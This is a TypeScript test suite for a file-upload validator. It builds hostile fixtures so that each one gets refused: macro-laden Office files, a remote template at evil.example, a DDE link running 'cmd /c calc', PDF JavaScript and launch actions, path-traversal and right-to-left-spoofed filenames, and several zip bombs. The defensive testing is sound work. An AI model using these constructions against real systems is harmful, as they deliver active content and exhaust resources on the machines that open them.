import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { buffer } from 'node:stream/consumers'
import { deflateSync } from 'node:zlib'
import ExcelJS from 'exceljs'
import fc from 'fast-check'
import { PNG } from 'pngjs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ZipFile } from 'yazl'
import { isRefusal } from '#contract'
import { inspect, type FileKind } from './intake.ts'

const allowed: readonly FileKind[] = ['pdf', 'png', 'jpeg', 'docx', 'xlsx', 'csv', 'txt', 'parquet']
const rules = { allowed, maxBytes: 20 << 20 }

let dir: string
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'gongshu-intake-'))
})
afterAll(() => rm(dir, { recursive: true, force: true }))

/** Inspects the bytes as a buffer and as a file: both must say the same. */
const look = async (content: Buffer | string, name: string, more: Partial<typeof rules> & { field?: string } = {}) => {
  const bytes = Buffer.isBuffer(content) ? content : Buffer.from(content)
  const path = join(dir, 'upload')
  await writeFile(path, bytes)
  const result = await inspect(bytes, name, { ...rules, ...more })
  expect(await inspect(path, name, { ...rules, ...more })).toEqual(result)
  return result
}
const refused = async (content: Buffer | string, name: string, code: string, says?: RegExp) => {
  const result = await look(content, name)
  expect(result).toMatchObject({ refused: true, code })
  if (!isRefusal(result)) throw new Error('not refused')
  expect(result.says).toMatch(says ?? /[\u4e00-\u9fff].*。$/)
  expect(result.fields).toEqual({ file: result.says })
}

const zip = (entries: Readonly<Record<string, string | Buffer>>, compress = true): Promise<Buffer> => {
  const file = new ZipFile()
  for (const [name, content] of Object.entries(entries)) file.addBuffer(Buffer.from(content), name, { compress })
  file.end()
  return buffer(file.outputStream)
}
/** Same length in and out, so offsets stay true: how an archive comes by a name that a zip library would refuse to write. */
const patch = (bytes: Buffer, from: string, to: string): Buffer => {
  expect(to).toHaveLength(from.length)
  const text = bytes.toString('latin1')
  expect(text.split(from).length).toBeGreaterThan(2)
  return Buffer.from(text.replaceAll(from, to), 'latin1')
}

const types = (...overrides: readonly string[]) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>${overrides
    .map((type) => `<Override PartName="/p" ContentType="${type}"/>`)
    .join('')}</Types>`
const wordMain = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const sheetMain = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
const relations = (relation: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relation}</Relationships>`
const officeType = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const docxParts = {
  '[Content_Types].xml': types(wordMain),
  '_rels/.rels': relations(`<Relationship Id="r1" Type="${officeType}/officeDocument" Target="word/document.xml"/>`),
  'word/document.xml':
    '<w:document><w:body><w:p><w:r><w:t>数据安全风险评估报告</w:t></w:r></w:p></w:body></w:document>',
}
const docx = (more: Readonly<Record<string, string | Buffer>> = {}) => zip({ ...docxParts, ...more })
const xlsx = async (): Promise<Buffer> => {
  const book = new ExcelJS.Workbook()
  const sheet = book.addWorksheet('信息项')
  for (let i = 0; i < 2_000; i++)
    sheet.addRow(['单位名称', i, '每日', { text: '网站', hyperlink: 'https://example.org' }])
  return Buffer.from(await book.xlsx.writeBuffer())
}
const pdf = (objects: string) =>
  Buffer.from(`%PDF-1.7\n%\xe2\xe3\xcf\xd3\n${objects}\ntrailer <</Root 1 0 R>>\nstartxref\n0\n%%EOF\n`, 'latin1')
const catalog = '1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj'
const streamObject = (dictionary: string, content: Buffer) =>
  `\n5 0 obj <<${dictionary} /Length ${content.length}>>\nstream\n${content.toString('latin1')}\nendstream endobj`
const png = () => PNG.sync.write(new PNG({ width: 3, height: 3 }))
const jpeg = Buffer.from(
  'ffd8ffe000104a46494600010100000100010000ffdb0043000302020302020303030304030304050805050404050a070706080c0a0c0c0b0a0b0b0d0e12100d0e110e0b0b1016101113141515150c0f171816141812141514ffc0000b080001000101011100ffc40014000100000000000000000000000000000009ffc40014100100000000000000000000000000000000ffda0008010100003f0054dfffd9',
  'hex',
)
const parquet = Buffer.concat([Buffer.from('PAR1'), Buffer.alloc(20), Buffer.from([20, 0, 0, 0]), Buffer.from('PAR1')])
const ole = (...names: readonly string[]) =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(1528),
    ...names.map((name) => Buffer.from(name.padEnd(64, '\0'), 'utf16le')),
  ])
const gb18030 = Buffer.from('b5a5cebb2cb9abbbfdbdf00a', 'hex') // 单位，公积金

describe('what is taken', () => {
  it.each([
    ['风险评估报告.pdf', () => pdf(catalog), 'pdf', 'application/pdf', 'pdf'],
    ['截图.PNG', png, 'png', 'image/png', 'png'],
    ['照片.jpeg', () => jpeg, 'jpeg', 'image/jpeg', 'jpg'],
    ['承诺书.docx', docx, 'docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'docx'],
    ['信息项 v1.2.xlsx', xlsx, 'xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'xlsx'],
    ['样本.parquet', () => parquet, 'parquet', 'application/vnd.apache.parquet', 'parquet'],
  ] as const)('%s', async (name, make, kind, mime, ext) => {
    const content = await make()
    expect(await look(content, name)).toEqual({ ok: true, kind, mime, ext, name, size: content.length })
  })
  it.each([
    ['样本.csv', '单位，公积金\n', 'utf-8'],
    ['样本.csv', '\ufeff单位，公积金\r\n', 'utf-8'],
    ['样本.csv', gb18030, 'gb18030'],
    ['样本.csv', 'BMI,MZ\n1,2\n', 'utf-8'],
    ['说明.txt', 'PK is not a zip', 'utf-8'],
    ['说明.txt', `${'字'.repeat(400_000)}`, 'utf-8'],
  ] as const)('%s as text (%#)', async (name, content, encoding) => {
    expect(await look(content, name)).toMatchObject({ ok: true, encoding })
  })
  it('a document with the sheet of a chart in it', async () => {
    expect(await look(await docx({ 'word/embeddings/Sheet1.xlsx': await xlsx() }), 'a.docx')).toMatchObject({
      ok: true,
    })
  })
  it('a name in decomposed Unicode comes back composed', async () => {
    expect(await look('a', 'e\u0301.txt')).toMatchObject({ name: '\u00e9.txt' })
  })
  it('a PDF whose compressed bytes happen to spell a short name', async () => {
    expect(await look(pdf(catalog + streamObject('', Buffer.from('..../JS <<....'))), 'a.pdf')).toMatchObject({
      ok: true,
    })
    const names = Buffer.from('1 0 <</Type /Catalog /Pages 2 0 R>>')
    expect(
      await look(
        pdf(catalog + streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(names))),
        'a.pdf',
      ),
    ).toMatchObject({ ok: true })
  })
})

describe('names', () => {
  it.each([
    ['报告\u202Efdp.exe.pdf', 'file_name_invalid'],
    ['报告\u2066.pdf', 'file_name_invalid'],
    ['报\u200b告.pdf', 'file_name_invalid'],
    ['报告\n.pdf', 'file_name_invalid'],
    ['报告\0.pdf', 'file_name_invalid'],
    ['报告\ud800.pdf', 'file_name_invalid'],
    ['../../etc/报告.pdf', 'file_name_invalid'],
    ['C:\\报告.pdf', 'file_name_invalid'],
    ['.pdf', 'file_name_invalid'],
    ['  .pdf', 'file_name_invalid'],
    ['报告', 'file_name_invalid'],
    ['', 'file_name_invalid'],
    [`${'长'.repeat(197)}.pdf`, 'file_name_too_long'],
    ['报告.pdf.exe', 'file_type_not_allowed'],
    ['报告.zip', 'file_type_not_allowed'],
    ['报告.doc', 'file_legacy_office'],
    ['台账.XLS', 'file_legacy_office'],
    ['报告.docm', 'file_macro'],
    ['台账.xlsm', 'file_macro'],
    ['台账.xlsb', 'file_macro'],
  ])('%j is refused: %s', (name, code) => refused(pdf(catalog), name, code))
  it('200 characters are taken, also when they are outside the basic plane', async () => {
    expect(await look(pdf(catalog), `${'𠮷'.repeat(196)}.pdf`)).toMatchObject({ ok: true })
  })
  it('says what is taken here', async () => {
    const result = await look(png(), '图.png', { allowed: ['pdf', 'docx'], field: 'materials.risk' })
    expect(result).toMatchObject({
      code: 'file_type_not_allowed',
      says: '此处只接收 .pdf、.docx 文件，所传文件的扩展名是 .png。',
      fields: { 'materials.risk': expect.any(String) },
    })
  })
})

describe('sizes', () => {
  it('an empty file', () => refused('', 'a.pdf', 'file_empty'))
  it('a file over the limit, saying both sizes', async () => {
    expect(await look(Buffer.alloc(3 << 20), 'a.pdf', { maxBytes: 1.5 * (1 << 20) })).toMatchObject({
      code: 'file_too_large',
      says: '文件大小 3 MB，超过此处 1.5 MB 的上限。',
    })
    expect(await look(pdf(catalog), 'a.pdf', { maxBytes: pdf(catalog).length })).toMatchObject({ ok: true })
  })
})

describe('content that is not what the name says', () => {
  it.each([
    ['a.png', () => jpeg, /实为 jpg/],
    ['a.pdf', png, /实为 png/],
    ['a.pdf', () => Buffer.from('MZ\x90\0\x03\0\0\0'), /实为 exe/],
    ['a.pdf', docx, /实为/],
    ['a.pdf', () => Buffer.from('hello'), /不是该类文件/],
    ['a.docx', () => pdf(catalog), /不是 Office 文档/],
    ['a.docx', () => Buffer.from('PK'), /不是 Office 文档/],
    ['a.xlsx', docx, /实为 \.docx/],
    ['a.docx', xlsx, /实为 \.xlsx/],
    ['a.csv', () => pdf(catalog), /另一种格式/],
    ['a.csv', () => Buffer.from('\ufeff <!DOCTYPE html><script>'), /另一种格式/],
    ['a.txt', () => Buffer.from('#!/bin/sh\n'), /另一种格式/],
    ['a.csv', () => Buffer.from('a,b\0c'), /控制字符/],
    ['a.csv', docx, /控制字符/],
    ['a.txt', () => Buffer.from('\x1b[2J'), /控制字符/],
    ['a.parquet', () => jpeg, /实为 jpg/],
  ] as const)('%s (%#)', async (name, make, says) => refused(await make(), name, 'file_type_mismatch', says))
  it('text in no known encoding', async () => {
    await refused(Buffer.from([0x61, 0xff, 0x62]), 'a.csv', 'file_text_encoding')
    await refused(Buffer.from('\ufeff单位', 'utf16le'), 'a.csv', 'file_text_encoding', /UTF-16/)
    await refused(
      Buffer.concat([Buffer.alloc((1 << 20) - 1, 'a'), Buffer.from([0xe5, 0x2c])]),
      'a.csv',
      'file_text_encoding',
    )
  })
  it('text cut in the middle of a character', () =>
    refused(Buffer.from('单位').subarray(0, 5), 'a.csv', 'file_text_encoding'))
  it('a Parquet file cut short or with an encrypted footer', async () => {
    await refused(parquet.subarray(0, 24), 'a.parquet', 'file_damaged')
    await refused(Buffer.concat([parquet.subarray(0, -4), Buffer.from('PARE')]), 'a.parquet', 'file_encrypted')
  })
})

describe('Office documents', () => {
  it('legacy and encrypted compound files', async () => {
    await refused(ole('WordDocument'), 'a.docx', 'file_legacy_office')
    await refused(ole('EncryptionInfo', 'EncryptedPackage'), 'a.xlsx', 'file_encrypted')
  })
  it.each([
    ['a VBA project', { 'word/vbaProject.bin': 'x' }],
    ['a VBA project in other letters', { 'word/VBAPROJECT.BIN': 'x' }],
    [
      'a VBA project named otherwise',
      { '[Content_Types].xml': types(wordMain, 'application/vnd.ms-office.vbaProject'), 'word/a.dat': 'x' },
    ],
    [
      'a macro-enabled main part',
      { '[Content_Types].xml': types('application/vnd.ms-word.document.macroEnabled.main+xml') },
    ],
    [
      'the same, spelt with character references',
      { '[Content_Types].xml': types('application/vnd.ms-word.document.m&#x61;cro&#69;nabled.main+xml') },
    ],
    [
      'the same in UTF-16',
      {
        '[Content_Types].xml': Buffer.from(
          `\ufeff${types('application/vnd.ms-word.document.macroEnabled.main+xml')}`,
          'utf16le',
        ),
      },
    ],
    ['an Excel 4 macro sheet', { '[Content_Types].xml': types(sheetMain, 'application/vnd.ms-excel.macrosheet+xml') }],
    ['an Excel 4 macro sheet by its place', { 'xl/macrosheets/sheet1.xml': '<x/>' }],
    [
      'a relationship to a VBA project',
      {
        'word/_rels/document.xml.rels': relations(
          '<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.dat"/>',
        ),
      },
    ],
  ])('with %s', async (_, more) => refused(await docx(more), 'a.docx', 'file_macro'))
  it.each([
    [
      'a remote template',
      {
        'word/_rels/settings.xml.rels': relations(
          `<Relationship Id="r" Type="${officeType}/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>`,
        ),
      },
    ],
    [
      'a remote object',
      {
        'word/_rels/document.xml.rels': relations(
          `<Relationship TargetMode='External' Id="r" Target="mhtml:http://evil.example" Type="${officeType}/oleObject"/>`,
        ),
      },
    ],
    ['an OLE object', { 'word/embeddings/oleObject1.bin': ole('Ole10Native') }],
    ['an ActiveX control', { 'word/activeX/activeX1.xml': '<x/>' }],
    [
      'a DDE link',
      {
        'xl/externalLinks/externalLink1.xml':
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      },
    ],
  ])('with %s', async (_, more) => refused(await docx(more), 'a.docx', 'file_active_content'))
  it('a macro in a document inside the document', async () => {
    const inner = await zip({ '[Content_Types].xml': types(sheetMain), 'xl/vbaProject.bin': 'x' })
    await refused(await docx({ 'word/embeddings/a.xlsx': inner }), 'a.docx', 'file_macro')
  })
  it('a link to a web page is no harm', async () => {
    const link = relations(
      `<Relationship Id="r" Type="${officeType}/hyperlink" Target="https://example.org" TargetMode="External"/>`,
    )
    expect(await look(await docx({ 'word/_rels/document.xml.rels': link }), 'a.docx')).toMatchObject({ ok: true })
  })
  it('no document at all: a plain zip, two main parts, a document type', async () => {
    await refused(await zip({ 'a.txt': 'x' }), 'a.docx', 'file_damaged')
    await refused(await docx({ '[Content_Types].xml': types(wordMain, sheetMain) }), 'a.docx', 'file_damaged')
    await refused(
      await docx({ '[Content_Types].xml': `<!DOCTYPE x [<!ENTITY m "macroEnabled">]>${types(wordMain)}` }),
      'a.docx',
      'file_damaged',
    )
  })
})

describe('zips that attack whoever opens them', () => {
  const unsafe = (content: Buffer, says: RegExp) => refused(content, 'a.docx', 'file_archive_unsafe', says)
  it.each(['../../evil.xml', '/etc/evil.xml1', 'C:/wind/evil1', 'word\\..\\..\\evil'])(
    'a part called %s',
    async (name) => {
      const placeholder = 'p'.repeat(name.length)
      await unsafe(patch(await docx({ [placeholder]: '<x/>' }), placeholder, name), /路径|目录/)
    },
  )
  it('a part name with control or bidirectional characters', async () => {
    await unsafe(patch(await docx({ 'word/qqqq': 'x' }), 'word/qqqq', 'word/q\x07qq'), /控制字符/)
    await unsafe(await docx({ 'word/\u202eq': 'x' }), /控制字符/)
  })
  it('two parts of one name, also in other letters', async () => {
    await unsafe(patch(await docx({ 'word/document.xmm': 'x' }), 'word/document.xmm', 'Word/document.xml'), /同名/)
  })
  it('a directory that calls a part otherwise than the part itself does', async () => {
    const text = (await docx({ 'word/settings.xml': 'x' })).toString('latin1')
    await unsafe(Buffer.from(text.replace('word/settings.xml', 'word/vbaProj.binn'), 'latin1'), /不一致/)
  })
  it('an encrypted entry', async () => {
    const bytes = await docx()
    const central = bytes.indexOf('PK\x01\x02', 0, 'latin1')
    bytes[central + 8]! |= 1
    await refused(bytes, 'a.docx', 'file_encrypted')
  })
  it('an unknown compression method', async () => {
    const bytes = await docx()
    bytes[bytes.indexOf('PK\x01\x02', 0, 'latin1') + 10] = 99
    await unsafe(bytes, /压缩方法/)
  })
  it('a bomb of one entry: 40 MB in 40 kB', async () => {
    await unsafe(await docx({ 'word/media/a.xml': Buffer.alloc(40 << 20) }), /压缩比/)
  })
  it('a bomb whose directory lies about sizes', async () => {
    const bytes = await docx({ 'word/media/a.xml': Buffer.alloc(40 << 20) })
    const lie = (at: number) => bytes.writeUInt32LE(1_000, at)
    const central = bytes.indexOf('word/media/a.xml', bytes.indexOf('PK\x01\x02', 0, 'latin1')) - 46
    expect(bytes.readUInt32LE(central + 24)).toBe(40 << 20)
    lie(central + 24)
    const local = bytes.indexOf('word/media/a.xml') - 30
    lie(local + 22)
    await unsafe(bytes, /不一致/)
  })
  it('a bomb of small ratio but much in sum', async () => {
    const block = Buffer.alloc(1 << 20, 'ratio just under the limit of one part')
    const parts = Object.fromEntries(Array.from({ length: 520 }, (_, i) => [`word/m${i}.xml`, block]))
    await unsafe(await docx(parts), /解压后过大/)
  }, 60_000)
  it('entries that share one body (Fifield’s bomb)', async () => {
    const bytes = await docx({
      'word/k.xml': Buffer.alloc(1 << 20, 'ratio under the limit of one part, which only just is not a bomb by itself'),
    })
    const first = bytes.indexOf('PK\x01\x02', 0, 'latin1')
    const end = bytes.indexOf('PK\x05\x06', 0, 'latin1')
    const at = bytes.indexOf('word/k.xml', first) - 46
    const record = bytes.subarray(at, end)
    const tail = Buffer.from(bytes.subarray(end))
    const copies = 600
    const named = Array.from({ length: copies }, (_, i) =>
      Buffer.from(record.toString('latin1').replace('word/k.xml', `word/k.${i + 100}`), 'latin1'),
    )
    tail.writeUInt16LE(tail.readUInt16LE(8) + copies, 8)
    tail.writeUInt16LE(tail.readUInt16LE(10) + copies, 10)
    tail.writeUInt32LE(tail.readUInt32LE(12) + copies * record.length, 12)
    await unsafe(Buffer.concat([bytes.subarray(0, end), ...named, tail]), /过大/)
  })
  it('thousands of entries', async () => {
    await unsafe(await docx(Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`word/${i}`, '']))), /部件超过/)
  })
  it('zips in zips in zips, and other archives', async () => {
    const inner = await docx({ 'word/embeddings/b.docx': await docx() })
    await unsafe(await docx({ 'word/embeddings/a.docx': inner }), /嵌套/)
    await refused(await docx({ 'word/a.zip': await zip({ 'a.exe': 'x' }) }), 'a.docx', 'file_damaged')
    await unsafe(await docx({ 'word/a.7z': Buffer.from('377abcaf271c0004', 'hex') }), /其他压缩包/)
  })
  it('a bomb inside a document inside the document', async () => {
    await unsafe(
      await docx({ 'word/embeddings/a.docx': await docx({ 'word/b.xml': Buffer.alloc(40 << 20) }) }),
      /压缩比/,
    )
  })
  it('an archive cut short or overwritten anywhere gives a refusal, never an error', async () => {
    const bytes = await docx()
    await fc.assert(
      fc.asyncProperty(fc.nat(bytes.length - 1), fc.nat(255), fc.boolean(), async (at, byte, cut) => {
        const broken = Buffer.from(cut ? bytes.subarray(0, at) : bytes)
        if (!cut) broken[at] = byte
        const result = await inspect(broken, 'a.docx', rules)
        if (cut) expect(isRefusal(result)).toBe(true)
      }),
      { numRuns: 300 },
    )
  })
})

describe('PDF', () => {
  const object = (dictionary: string) => pdf(`${catalog}\n9 0 obj <<${dictionary}>> endobj`)
  it.each([
    ['a script', '/S /JavaScript /JS (app.alert\\(1\\))', 'file_active_content'],
    ['a script with escaped letters', '/S /J#61va#53cript', 'file_active_content'],
    ['only the short name', '/S /Rendition /#4A#53 (x)', 'file_active_content'],
    ['a launch action', '/OpenAction <</S/Launch/F(cmd.exe)>>', 'file_active_content'],
    ['an embedded file', '/Type/EmbeddedFile', 'file_active_content'],
    ['a tree of embedded files', '/Names <</EmbeddedFiles 4 0 R>>', 'file_active_content'],
    ['rich media', '/Subtype/RichMedia', 'file_active_content'],
    ['a dynamic form', '/AcroForm <</XFA[]>>', 'file_active_content'],
    ['encryption', '/Encrypt 7 0 R', 'file_encrypted'],
    ['encryption with escaped letters', '/E#6Ec#72ypt 7 0 R', 'file_encrypted'],
  ])('with %s', (_, dictionary, code) => refused(object(dictionary), 'a.pdf', code))
  it('names that merely begin alike are no harm', async () => {
    expect(await look(object('/JavaScripture 1 /Launched 2 /JSON 3 /EncryptMetadata true'), 'a.pdf')).toMatchObject({
      ok: true,
    })
  })
  const hidden = deflateSync(Buffer.from('1 0 <</S /JavaScript /JS (app.alert\\(1\\))>>'))
  it.each([
    ['/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', hidden, 'file_active_content'],
    ['/Type /#4fbjStm /N 1 /F#69rst 4 /Filter [ /Fl#61teDecode ]', hidden, 'file_active_content'],
    ['/Type /ObjStm /Filter /FlateDecode', hidden.subarray(0, 20), 'file_damaged'],
    ['/Type /ObjStm /Filter [/FlateDecode /ASCIIHexDecode]', hidden, 'file_damaged'],
    ['/Type /ObjStm /Filter /LZWDecode', hidden, 'file_damaged'],
    ['/Type /ObjStm /Filter 8 0 R', hidden, 'file_damaged'],
    ['/Type /ObjStm /Filter /FlateDecode /DecodeParms <</Predictor 12>>', hidden, 'file_damaged'],
    ['/Type /ObjStm /Filter /FlateDecode', deflateSync(Buffer.alloc(200 << 20)), 'file_damaged'],
  ])('in an object stream <<%s>> (%#)', (dictionary, content, code) =>
    refused(pdf(catalog + streamObject(dictionary, content)), 'a.pdf', code),
  )
  it('cut short', async () => {
    await refused(Buffer.concat([pdf(catalog).subarray(0, 60), Buffer.alloc(4_000, 32)]), 'a.pdf', 'file_damaged')
    await refused(pdf(`${catalog}\n9 0 obj <<>>\nstream\nabc`), 'a.pdf', 'file_damaged')
  })
})

it('no bytes whatever under any name make it throw', async () => {
  const heads = [
    pdf(catalog),
    png(),
    jpeg,
    parquet,
    ole('x'),
    await docx(),
    Buffer.from('RIFF'),
    Buffer.from('OggS'),
    Buffer.from('ID3'),
  ]
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...heads),
      fc.nat(60),
      fc.uint8Array({ maxLength: 400 }),
      fc.constantFrom(...allowed),
      async (head, keep, noise, kind) => {
        const result = await inspect(Buffer.concat([head.subarray(0, keep), noise]), `a.${kind}`, rules)
        expect(isRefusal(result) || result.ok).toBe(true)
      },
    ),
    { numRuns: 500 },
  )
})
